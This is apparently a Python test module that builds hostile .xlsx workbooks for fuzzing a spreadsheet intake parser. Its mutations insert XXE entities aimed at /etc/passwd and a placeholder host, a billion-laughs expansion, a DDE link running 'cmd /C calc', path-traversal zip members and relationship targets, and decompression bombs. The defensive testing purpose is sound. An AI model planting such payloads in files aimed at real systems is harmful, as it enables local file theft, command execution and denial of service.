"""Workbooks taken apart and put together wrongly: zip members, XML, references, bombs, links to elsewhere."""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from functools import cache
from xml.sax.saxutils import escape

from tests.faults import hostile_cells as cells
from tests.faults import hostile_zip
from tests.faults.hostile_zip import SHEET, STRINGS, Parts, unzipped, zipped
from tests.intake_forms import electricity, firms, workbook

Mutation = Callable[[random.Random, Parts], None]


@cache
def honest(count: int) -> bytes:
    """A form with ``count`` firms, as a department would send it."""
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        return workbook(
            Path(folder) / "a.xlsx", electricity(firms(count)), merges=[(0, 0, 0, 3)]
        ).read_bytes()


def xlsx_file(rng: random.Random, *, is_heavy: bool = True) -> tuple[str, str, bytes]:
    """(what was done, file name, content) of one hostile workbook; heavy ones unpack to hundreds of MB."""
    content = honest(rng.choice((1, 3, 20, 40)))
    if rng.random() < 0.25:
        what, broken = hostile_zip.broken(rng, content, is_heavy=is_heavy)
        return what, cells.file_name(rng, ".xlsx"), broken
    parts = unzipped(content)
    mutations = [m for m in MUTATIONS if is_heavy or m is not bombs]
    done = rng.sample(mutations, k=rng.choice((1, 1, 1, 2, 3)))
    for mutation in done:
        mutation(rng, parts)
    what = "xlsx:" + "+".join(mutation.__name__ for mutation in done)
    return what, cells.file_name(rng, ".xlsx"), zipped(parts)


def _edit(
    parts: Parts, name: str, pattern: str, make: Callable[[re.Match[str]], str], count: int = 0
) -> None:
    if name in parts:
        text = parts[name].decode("utf-8", errors="surrogateescape")
        parts[name] = re.sub(pattern, make, text, count=count).encode("utf-8", errors="surrogatepass")


def _some(
    rng: random.Random, share: float, make: Callable[[re.Match[str]], str]
) -> Callable[[re.Match[str]], str]:
    return lambda match: make(match) if rng.random() < share else match.group()


def far_cells(rng: random.Random, parts: Parts) -> None:
    ref = rng.choice(
        ("XFD1048576", "XFD1", "A1048576", "ZZZ99999999", "A0", "", "1A", "A-1", "A99999999999999999999")
    )
    mark = rng.choice(('<c r="{}">', "<c r='{}'>", '<c s="1" r="{}">', '<x:c r="{}">', '<c  r = "{}" >'))
    row = rng.choice(
        ('<row r="1048576">', "<row>", "<row r='4294967296'>", '<row r="-1">', '<row spans="1:16384" r="9">')
    )
    cell = row + mark.format(ref) + "<v>1</v></c></row></sheetData>"
    _edit(parts, SHEET, "</sheetData>", lambda m: cell)


def dimensions(rng: random.Random, parts: Parts) -> None:
    ref = rng.choice(
        ("A1:XFD1048576", "XFD1048576:A1", "A1", "", "A1:ZZZZ1", "A1:A99999999999", "1:1", "B2:C")
    )
    _edit(parts, SHEET, r'<dimension ref="[^"]*"', lambda m: f'<dimension ref="{ref}"')


def references(rng: random.Random, parts: Parts) -> None:
    wrong = ("A1", "B2", "ZZ1", "IV65536", "A2000000", "r", "Ａ１", "a1", "$A$1", "A1:B2")
    _edit(parts, SHEET, r'<c r="[A-Z]+\d+"', _some(rng, 0.2, lambda m: f'<c r="{rng.choice(wrong)}"'))


def merged_cells(rng: random.Random, parts: Parts) -> None:
    kind = rng.choice(("huge", "overlapping", "reversed", "wrong", "many", "single", "data"))
    refs = {
        "huge": ["A1:XFD1048576"],
        "overlapping": ["A1:C3", "B2:D4", "A1:C3", "A3:A30", "A4:A31"],
        "reversed": ["D4:A1"],
        "wrong": ["", "A", "A1:", ":B2", "ZZZZ1:A9", "A0:B0"],
        "many": [f"A{row}:A{row + 30}" for row in range(3, 20_000)],
        "single": ["A5:A5", "B3:B3"],
        "data": ["A3:A10", "B3:D3", "C4:D9"],
    }[kind]
    text = "".join(f'<mergeCell ref="{ref}"/>' for ref in refs)
    _edit(
        parts, SHEET, r"<mergeCells.*?</mergeCells>", lambda m: f'<mergeCells count="1">{text}</mergeCells>'
    )


def kinds(rng: random.Random, parts: Parts) -> None:
    wrong = ("s", "n", "b", "e", "str", "inlineStr", "d", "z", "")
    _edit(
        parts,
        SHEET,
        r'(<c r="[^"]*")( t="\w+")?',
        _some(rng, 0.3, lambda m: f'{m[1]} t="{rng.choice(wrong)}"'),
    )


def values(rng: random.Random, parts: Parts) -> None:
    _edit(parts, SHEET, r"<v>[^<]*</v>", _some(rng, 0.3, lambda m: f"<v>{escape(cells.number(rng))}</v>"))


def strings(rng: random.Random, parts: Parts) -> None:
    def text(match: re.Match[str]) -> str:
        return f"<t>{escape(cells.cell(rng))}</t>"

    _edit(parts, STRINGS, r"<t[^>]*>[^<]*</t>", _some(rng, 0.3, text))


def odd_strings(rng: random.Random, parts: Parts) -> None:
    odd = (
        "<t>&#xD800;</t>",
        "<t>&#0;</t>",
        "<t>&#x1F;&#xFFFE;</t>",
        "<t>_x0000_=1+1</t>",
        "<t>&unknown;</t>",
        "<t>&#99999999999;</t>",
        "<r><t>=</t></r><r><t>1+1</t></r>",
        "<t>一<rPh><t>yi</t></rPh></t>",
        "<t>" + "<b>" * 3000 + "</t>",
        "<t/>",
        "",
    )
    _edit(parts, STRINGS, r"<t[^>]*>[^<]*</t>", _some(rng, 0.3, lambda m: rng.choice(odd)))


def string_counts(rng: random.Random, parts: Parts) -> None:
    count = rng.choice(("0", "-1", "4294967295", "99999999999999999999", "x"))
    _edit(parts, STRINGS, r'(unique)?[Cc]ount="\d+"', lambda m: f'{m[1] or ""}count="{count}"')


def formulas(rng: random.Random, parts: Parts) -> None:
    def formula(match: re.Match[str]) -> str:
        kind = rng.choice(
            ("", ' t="array" ref="A1:XFD1048576"', ' t="shared" si="0" ref="A1:A9"', ' t="dataTable"')
        )
        return f"{match[1]}<f{kind}>{escape(rng.choice(cells.FORMULAS).strip().lstrip('='))}</f>{match[2]}"

    _edit(parts, SHEET, r"(<c [^>]*>)(<v>[^<]*</v>)", _some(rng, 0.4, formula))


def external_links(rng: random.Random, parts: Parts) -> None:
    target = rng.choice(
        ("http://192.0.2.1/x.xlsx", "file:///etc/passwd", "\\\\192.0.2.1\\share\\x", "../../../etc/passwd")
    )
    kind = rng.choice(
        ("externalLinkPath", "hyperlink", "oleObject", "image", "connections", "attachedTemplate")
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    rel = f'<Relationship Id="rId99" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    where = rng.choice(("xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels", "_rels/.rels"))
    known = parts.get(where, f'<Relationships xmlns="{space}"></Relationships>'.encode())
    parts[where] = known.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems/></ddeLink></externalLink>'
    )
    _edit(
        parts,
        SHEET,
        "</sheetData>",
        lambda m: '</sheetData><hyperlinks><hyperlink ref="A1" id="rId99"/></hyperlinks>',
    )


def relations(rng: random.Random, parts: Parts) -> None:
    targets = (
        "../../../../etc/passwd",
        "/etc/passwd",
        "http://192.0.2.1/s.xml",
        "",
        "worksheets/none.xml",
        "sharedStrings.xml",
        "workbook.xml",
    )
    _edit(
        parts,
        "xl/_rels/workbook.xml.rels",
        r'Target="[^"]*"',
        _some(rng, 0.6, lambda m: f'Target="{rng.choice(targets)}"'),
    )


def entities(rng: random.Random, parts: Parts) -> None:
    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    kinds_of = (
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "http://192.0.2.1/e">]>',
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
        f"<!DOCTYPE x [{laughs.replace('&a0;', '&a;')}]>",
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>',
    )
    name = rng.choice((SHEET, STRINGS, "xl/workbook.xml", "xl/styles.xml"))
    chosen = rng.choice(kinds_of)
    _edit(parts, name, r"\?>\s*", lambda m: f"?>{chosen}", count=1)
    entity = "&a9;" if "laughs" in chosen or "a9" in chosen else "&e;"
    _edit(parts, STRINGS, r"<t[^>]*>[^<]*</t>", lambda m: f"<t>{entity}</t>", count=3)


def declarations(rng: random.Random, parts: Parts) -> None:
    name = rng.choice([part for part in (SHEET, STRINGS, "xl/workbook.xml") if part in parts] or [*parts])
    encoding = rng.choice(("utf-16", "gb18030", "utf-8-sig", "utf-32"))
    text = parts[name].decode("utf-8", errors="replace")
    said = rng.choice(("UTF-8", "UTF-16", "GBK", "x-none"))
    parts[name] = text.replace('encoding="UTF-8"', f'encoding="{said}"').encode(encoding, errors="replace")


def sheet_names(rng: random.Random, parts: Parts) -> None:
    names = (
        "",
        "'",
        "a" * 1000,
        "../../x",
        "[1]a",
        "a:b?*",
        "=1+1",
        "&#1;",
        "退回说明",
        "History",
        "👾" * 20,
        "\u202e",
    )
    _edit(parts, "xl/workbook.xml", r'<sheet name="[^"]*"', lambda m: f'<sheet name="{rng.choice(names)}"')


def many_sheets(rng: random.Random, parts: Parts) -> None:
    count = rng.choice((2, 50, 400))
    same = "".join(
        f'<sheet name="s{rng.choice((i, 1))}" sheetId="{i}" r:id="rId1"/>' for i in range(2, count)
    )
    _edit(parts, "xl/workbook.xml", "</sheets>", lambda m: same + "</sheets>")


def dates(rng: random.Random, parts: Parts) -> None:
    _edit(
        parts,
        "xl/workbook.xml",
        "<workbookPr ",
        lambda m: rng.choice(('<workbookPr date1904="1" ', "<workbookPr ")),
    )
    serials = ("0", "60", "-5", "1e10", "2958466", "0.5", "44621.99999", "1e300", "43890")
    _edit(
        parts,
        SHEET,
        r'<c r="([A-Z]+\d+)"[^>]*><v>[^<]*</v>',
        _some(rng, 0.3, lambda m: f'<c r="{m[1]}" s="1"><v>{rng.choice(serials)}</v>'),
    )


def styles(rng: random.Random, parts: Parts) -> None:
    what = rng.randrange(3)
    if what == 0:
        parts.pop("xl/styles.xml", None)
    elif what == 1:
        _edit(
            parts, "xl/styles.xml", r'numFmtId="\d+"', lambda m: f'numFmtId="{rng.choice((14, 22, 999, -1))}"'
        )
    else:
        _edit(
            parts,
            SHEET,
            r'<c r="([A-Z]+\d+)"',
            _some(rng, 0.5, lambda m: f'<c r="{m[1]}" s="{rng.choice((99999, -1))}"'),
        )


def damaged_xml(rng: random.Random, parts: Parts) -> None:
    name = rng.choice(sorted(parts))
    content = bytearray(parts[name])
    for _ in range(rng.randint(1, 10)):
        place = rng.randrange(len(content) or 1)
        what = rng.randrange(4)
        if what == 0 and content:
            content[place] = rng.randrange(256)
        elif what == 1:
            del content[place : place + rng.randint(1, 200)]
        elif what == 2:
            content[place:place] = rng.choice(
                (b"\0", b"<", b">", b"&", b"]]>", b"<![CDATA[", b"\xff\xfe", b"<a>" * 20_000)
            )
        else:
            content[place:place] = content[place : place + 500]
    parts[name] = bytes(content)


def members(rng: random.Random, parts: Parts) -> None:
    what = rng.randrange(4)
    if what == 0:
        parts.pop(rng.choice(sorted(parts)))
    elif what == 1:
        names = (
            "../../fuyou-pwned",
            "/tmp/fuyou-pwned",
            "..\\..\\x",
            "C:\\x",
            "a\0b",
            "xl/worksheets/../../x.xml",
        )
        parts[rng.choice(names)] = b"x"
    elif what == 2:
        for name in (SHEET, "xl/workbook.xml"):
            if name in parts:
                parts[name.upper() if rng.random() < 0.5 else name.replace("/", "\\")] = parts.pop(name)
    else:
        parts.update({f"xl/media/{i}.bin": b"" for i in range(5000)})


def bombs(rng: random.Random, parts: Parts) -> None:
    size = rng.choices((10, 60, 650), weights=(8, 3, 1))[0]
    what = rng.randrange(4)
    if what == 0:
        parts[STRINGS] = parts.get(STRINGS, b"").replace(
            b"</sst>", b"<si><t/></si>" * (size * 2**20 // 13) + b"</sst>"
        )
    elif what == 1:
        parts[SHEET] = parts.get(SHEET, b"").replace(
            b"</sheetData>", b"<row/>" * (size * 2**20 // 6) + b"</sheetData>"
        )
    elif what == 2:
        cell = b"<c><v>1</v></c>"
        parts[SHEET] = parts.get(SHEET, b"").replace(
            b"</sheetData>",
            (b"<row>" + cell * 16_000 + b"</row>") * (size * 2**20 // 240_000) + b"</sheetData>",
        )
    else:
        parts["xl/styles.xml"] = bytes(size * 2**20)


MUTATIONS: tuple[Mutation, ...] = (
    far_cells,
    dimensions,
    references,
    merged_cells,
    kinds,
    values,
    strings,
    odd_strings,
    string_counts,
    formulas,
    external_links,
    relations,
    entities,
    declarations,
    sheet_names,
    many_sheets,
    dates,
    styles,
    damaged_xml,
    members,
    bombs,
)
